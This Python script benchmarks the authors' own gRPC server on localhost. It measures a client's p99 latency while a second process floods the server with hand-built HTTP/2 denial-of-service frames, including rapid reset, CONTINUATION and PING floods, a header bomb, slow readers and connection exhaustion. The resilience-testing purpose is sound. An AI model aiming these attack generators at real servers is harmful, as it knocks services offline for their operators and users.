"""One client's calls on our gRPC server, while the server is left alone and while another peer attacks it.

The server has one core; both clients share another, the attacker with the lower priority. An attacker that is hung up on
connects again at once. Each attack is measured after a calm stretch of the same server, and set against
it; medians of the runs are shown.

usage: rpc_attack.py [--runs N] [--calls N]     with CLAW_BUILD_DIR set to a release build
"""
import argparse
import multiprocessing
import os
import socket
import statistics
import struct
import time

from rpc_compare import CLIENT_CORE, OURS, SMALL, Connection, Server, down, message

frame = Connection.frame
HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
WIDE = frame(8, 0, 0, struct.pack(">I", 1 << 30))
BATCH = 100
GRACE = 0.2  # seconds until an attack has begun in earnest


def block(method, path=True):
    def text(s):
        return bytes([len(s)]) + s.encode()

    return (b"\x83\x86" + (b"\x04" + text("/b.B/" + method) if path else b"") + b"\x01" + text("localhost") +
            b"\x0f\x10" + text("application/grpc") + b"\x00" + text("te") + text("trailers"))


def begin(stream, method="Up", flags=4, path=True):
    return frame(1, flags, stream, block(method, path))


# name: what is said first, and then what is said over and over: of a number that grows
ATTACKS = {
    "rapid reset": (b"", lambda i: begin(2 * i + 1) + frame(3, 0, 2 * i + 1, b"\0\0\0\x08")),
    "provoked resets": (b"", lambda i: begin(2 * i + 1, path=False)),
    "SETTINGS": (b"", lambda i: frame(4, 0, 0, b"\0\4\0\0\xff\xff")),
    "PING": (b"", lambda i: frame(6, 0, 0, b"12345678")),
    "empty DATA": (begin(1), lambda i: frame(0, 0, 1)),
    "CONTINUATION": (frame(1, 0, 1, b"\x83"), lambda i: frame(9, 0, 1, b"\0\1x\1y")),
    "a bomb of headers": (frame(1, 0, 1, b"\x40\1x\x7d" + bytes([0x79]) * 125), lambda i: frame(9, 0, 1, b"\xbe" * 1000)),
    "connections": (b"", None),
    "slow readers": (frame(4, 0, 0, b"\0\4\x7f\xff\xff\xff") + WIDE +
                     b"".join(begin(s, "Down") + frame(0, 1, s, down(1000000, 65536)) for s in range(1, 65, 2)), b""),
    "1000 idle connections": (b"", b""),
}
CROWDS = {"1000 idle connections": 1000, "slow readers": 30}


def attack(name, port):
    first, more = ATTACKS[name]
    os.nice(10)
    os.sched_setaffinity(0, {CLIENT_CORE})
    if more == b"":
        held = [socket.create_connection(("127.0.0.1", port)) for _ in range(CROWDS[name])]
        for s in held:
            s.sendall(HELLO + first)
        time.sleep(3600)
    while True:
        try:
            with socket.create_connection(("127.0.0.1", port)) as s:
                s.sendall(HELLO + first)
                i = 0
                while more is not None:
                    s.sendall(b"".join(more(i + k) for k in range(BATCH)))
                    i += BATCH
        except OSError:
            pass


class Client:
    """Calls one after the other, and the time each takes."""

    def __init__(self, port):
        self.connection = Connection(port)
        self.connection.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.connection.socket.sendall(WIDE)
        self.stream = 1

    def p99(self, calls):
        times = []
        body = message(bytes(SMALL))
        for _ in range(calls):
            started = time.perf_counter()
            self.connection.socket.sendall(begin(self.stream, "Echo") + frame(0, 1, self.stream, body))
            self.connection.wait_for(lambda kind, flags: kind == 1 and flags & 1)
            times.append(time.perf_counter() - started)
            self.stream += 2
        return statistics.quantiles(times, n=100)[98]


def measure(name, calls):
    with Server(OURS) as server:
        client = Client(server.port)
        client.p99(calls)  # warm
        before = client.p99(calls)
        attacker = multiprocessing.Process(target=attack, args=(name, server.port), daemon=True)
        attacker.start()
        time.sleep(GRACE if name not in CROWDS else 1)
        during = client.p99(calls)
        attacker.terminate()
        attacker.join()
        return before, during


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--runs", type=int, default=3)
    parser.add_argument("--calls", type=int, default=2000)
    args = parser.parse_args()
    print("| attack | p99 in calm | p99 under attack | ratio |\n|---|---|---|---|")
    for name in ATTACKS:
        runs = [measure(name, args.calls) for _ in range(args.runs)]
        calm, during = (statistics.median(r[i] for r in runs) * 1e3 for i in range(2))
        print(f"| {name} | {calm:.2f} ms | {during:.2f} ms | {statistics.median(d / c for c, d in runs):.2f} |", flush=True)


if __name__ == "__main__":
    main()
